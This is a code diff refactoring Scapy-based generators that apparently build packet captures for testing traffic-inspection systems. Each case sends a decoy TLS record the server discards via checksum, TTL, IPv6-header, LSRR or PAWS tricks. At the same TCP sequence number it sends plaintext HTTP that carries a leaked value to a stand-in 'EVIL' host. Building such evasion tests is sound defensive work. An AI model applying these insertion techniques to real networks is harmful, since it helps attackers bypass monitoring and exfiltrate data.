@@ -778,132 +778,101 @@ def case_after_reneg_reorder_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
-@case
-def case_after_insert_badsum(n):
-    """After the handshake, a well-framed application data record with a
-    wrong checksum, then, at the same sequence number, plaintext HTTP."""
+def after_insert(n, send_decoy, established=None):
+    """After the handshake, a well-framed application data record that the
+    server discards (send_decoy(t, decoy, base): how it is sent), then, at
+    the same sequence number, plaintext HTTP. established(cap): the session
+    so far (an IPv4 e2m one by default)."""
     cap = Capture()
-    t = tls_established(cap, S1, 42154, E2M, 254, n)
+    t = established(cap) if established else tls_established(cap, S1, CPORT[n], E2M, CPORT[n] - 41900, n)
     http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
     decoy = tls_appdata(n + "decoy", len(http) - 5)
     assert len(decoy) == len(http)
     base = t.cseq
-    t.raw(True, "PA", decoy, seq=base, tcpkw={"chksum": 0xDEAD})
-    t.raw(True, "PA", http, seq=base)
+    send_decoy(t, decoy, base)
+    t.raw(True, "PA", http, seq=base, options=t.opts(True) if isinstance(t, TsTcp) else None)
     t.cseq = base + len(http)
     t.data(False, tls_appdata(n + "more", 120))
     t.close()
     return cap, {"leak": [leak(n)]}
+
+
+# the client port of each insertion case (its ISN: the port - 41900)
+CPORT = {"after_insert_badsum": 42154, "after_insert_ttl": 42156, "after_insert_noack": 42157,
+         "after_insert_md5": 42158, "after_insert_badack": 42159, "after_insert_hbh6": 42162,
+         "after_insert_ipopt": 42163, "after_insert_dstopt6": 42164, "after_insert_paws": 42165}
+
+
+def v6_decoy(cport, *ext):
+    """Send the decoy from S6 with these IPv6 extension headers before TCP."""
+    def send(t, decoy, base):
+        pkt = IPv6(src=S6, dst=E2M6)
+        for h in ext:
+            pkt = pkt / h
+        pkt = pkt / TCP(sport=cport, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
+        t.cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
+    return send
+
+
+def v6_established(n):
+    return lambda cap: tls_established(cap, S6, CPORT[n], E2M6, CPORT[n] - 41900, n)
+
+
+@case
+def case_after_insert_badsum(n):
+    """The decoy record with a wrong TCP checksum."""
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, tcpkw={"chksum": 0xDEAD}))
 
 
 @case
 def case_after_insert_ttl(n):
     """The decoy record with a TTL that expires before the server."""
-    return after_insert(n, 42156, 256, ipkw={"ttl": 1})
-
-
-def after_insert(n, cport, isn, **decoy_kw):
-    """After the handshake, a well-framed application data record that the
-    server discards (decoy_kw: how), then, at the same sequence number,
-    plaintext HTTP."""
-    cap = Capture()
-    t = tls_established(cap, S1, cport, E2M, isn, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    flags = decoy_kw.pop("flags", "PA")
-    t.raw(True, flags, decoy, seq=base, **decoy_kw)
-    t.raw(True, "PA", http, seq=base)
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ipkw={"ttl": 1}))
 
 
 @case
 def case_after_insert_noack(n):
     """The decoy record without the ACK flag (discarded once synchronized)."""
-    return after_insert(n, 42157, 257, flags="P")
+    return after_insert(n, lambda t, d, b: t.raw(True, "P", d, seq=b))
 
 
 @case
 def case_after_insert_md5(n):
     """The decoy record with a TCP-MD5 signature option (dropped by a server without the key)."""
-    return after_insert(n, 42158, 258, options=[(19, prand(n + "md5", 16))])
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, options=[(19, prand(n + "md5", 16))]))
 
 
 @case
 def case_after_insert_badack(n):
     """The decoy record acknowledging bytes the server never sent."""
-    cap = Capture()
-    t = tls_established(cap, S1, 42159, E2M, 259, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    t.raw(True, "PA", decoy, seq=base, ack=(t.sseq + 70000) & 0xFFFFFFFF)
-    t.raw(True, "PA", http, seq=base)
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ack=(t.sseq + 70000) & 0xFFFFFFFF))
 
 
 @case
 def case_after_insert_hbh6(n):
     """IPv6: the decoy record with Hop-by-Hop options after a Destination
-    Options header (a host drops it, RFC 8200 4.1), then plaintext HTTP."""
-    cap = Capture()
-    t = tls_established(cap, S6, 42162, E2M6, 262, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop()
-           / TCP(sport=42162, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy))
-    cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
-    t.raw(True, "PA", http, seq=base)
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    Options header (a host drops it, RFC 8200 4.1)."""
+    return after_insert(n, v6_decoy(CPORT[n], IPv6ExtHdrDestOpt(), IPv6ExtHdrHopByHop()), v6_established(n))
 
 
 @case
 def case_after_insert_ipopt(n):
     """The decoy record with a loose source route option (hosts drop it by
     default); its TCP checksum is right for the addresses on the wire."""
-    cap = Capture()
-    t = tls_established(cap, S1, 42163, E2M, 263, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    seg = TCP(sport=42163, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
-    ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
-    t.raw(True, "PA", decoy, seq=base, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]},
-          tcpkw={"chksum": ck})
-    t.raw(True, "PA", http, seq=base)
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    def send(t, decoy, base):
+        seg = TCP(sport=CPORT[n], dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
+        ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
+        t.raw(True, "PA", decoy, seq=base, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]},
+              tcpkw={"chksum": ck})
+    return after_insert(n, send)
 
 
 @case
 def case_after_insert_dstopt6(n):
     """IPv6: the decoy record with a Destination Options header holding an
-    option of an unknown type that says discard (RFC 8200 4.2), then plaintext HTTP."""
-    cap = Capture()
-    t = tls_established(cap, S6, 42164, E2M6, 264, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])
-           / TCP(sport=42164, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy))
-    cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
-    t.raw(True, "PA", http, seq=base)
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    option of an unknown type that says discard (RFC 8200 4.2)."""
+    opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])
+    return after_insert(n, v6_decoy(CPORT[n], opt), v6_established(n))
 
 
 class TsTcp(ETcp):
@@ -961,18 +930,10 @@ def tls_established_ts(cap, cport, isn, seed):
 @case
 def case_after_insert_paws(n):
     """Both sides use timestamps; the decoy record carries an older one than
-    the client sent before (PAWS: the server drops it), then plaintext HTTP."""
-    cap = Capture()
-    t = tls_established_ts(cap, 42165, 265, n)
-    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
-    decoy = tls_appdata(n + "decoy", len(http) - 5)
-    base = t.cseq
-    t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF))
-    t.raw(True, "PA", http, seq=base, options=t.opts(True))
-    t.cseq = base + len(http)
-    t.data(False, tls_appdata(n + "more", 120))
-    t.close()
-    return cap, {"leak": [leak(n)]}
+    the client sent before (PAWS: the server drops it)."""
+    return after_insert(
+        n, lambda t, d, b: t.raw(True, "PA", d, seq=b, options=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF)),
+        lambda cap: tls_established_ts(cap, CPORT[n], CPORT[n] - 41900, n))
 
 
 @case
